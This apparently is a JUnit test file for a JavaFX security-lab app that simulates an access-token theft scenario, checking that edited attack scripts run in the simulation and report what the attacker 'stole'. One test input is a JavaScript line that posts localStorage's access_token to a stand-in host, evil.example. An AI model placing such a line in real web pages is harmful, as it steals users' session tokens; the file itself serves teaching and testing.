package dev.authscope.ui.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import javafx.scene.Node;
import javafx.scene.control.Button;
import javafx.scene.control.TextArea;
import javafx.scene.input.KeyCode;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import dev.authscope.flow.Loot;
import dev.authscope.ui.model.BundledScenarios;
import dev.authscope.ui.model.LabRuns;
import dev.authscope.ui.model.RunState;

class AttackScriptTest {

    private static final TestWindow WINDOW = new TestWindow(new BundledScenarios(), new LabRuns(), 1000, 800);

    @BeforeEach
    void openTheTheft() {
        WINDOW.run(() -> WINDOW.model().appearance().questionsProperty().set(false));
        WINDOW.open("access-token-theft");
        WINDOW.press(KeyCode.ESCAPE);
    }

    @AfterAll
    static void close() {
        WINDOW.close();
    }

    private static Node node(String id) {
        return WINDOW.shell().scene().getRoot().lookup("#" + id);
    }

    /** Runs the core path with a script in place of the one that is shown, and says what the attacker got. */
    private static List<String> stolenBy(String script) {
        WINDOW.press(KeyCode.X);
        WINDOW.await(() -> node("script-text") != null);
        WINDOW.run(() -> ((TextArea) node("script-text")).setText(script));
        WINDOW.run(() -> ((Button) node("script-run")).fire());
        WINDOW.await(() -> WINDOW.model().run().state().phase() == RunState.Phase.READY
                && WINDOW.model().run().attackScript().equals(Optional.of(script)));
        for (int press = 0; press < 2; press++) {
            WINDOW.press(KeyCode.SPACE);
        }
        assertThat(WINDOW.errors()).isEmpty();
        return WINDOW.look(() -> WINDOW.model()
                .momentProperty()
                .get()
                .world()
                .loot()
                .values()
                .stream()
                .filter(loot -> !loot.kind().equals("claim"))
                .map(Loot::name)
                .toList());
    }

    @Test
    void theScriptIsShownChangedAndRun() {
        String original = WINDOW.look(() -> WINDOW.model().run().attackScript().orElseThrow());
        assertThat(original).contains("localStorage");
        assertThat(stolenBy("var nothing = 1;")).isEmpty();
        assertThat(stolenBy("fetch('https://evil.example/collect', {method: 'POST', mode: 'no-cors', "
                + "body: JSON.stringify({localStorage: {access_token: localStorage.getItem('access_token')}})});"))
                .contains("AT1");
        assertThat(stolenBy(original)).contains("AT1");
    }

    @Test
    void aScriptThatNeverEndsOrIsNoScriptHarmsNothing() {
        assertThat(stolenBy("while (true) {}")).isEmpty();
        assertThat(stolenBy("this is no script </script> }{")).isEmpty();
        assertThat(WINDOW.look(() -> WINDOW.model().run().state().problem())).isNull();
    }

    @Test
    void aScenarioWithoutAScriptOffersNone() {
        assertThat(WINDOW.look(() -> node("open-script"))).isNotNull();
        WINDOW.open("session-login");
        assertThat(WINDOW.look(() -> node("open-script"))).isNull();
        WINDOW.press(KeyCode.X);
        assertThat(WINDOW.look(() -> node("script-text"))).isNull();
    }
}
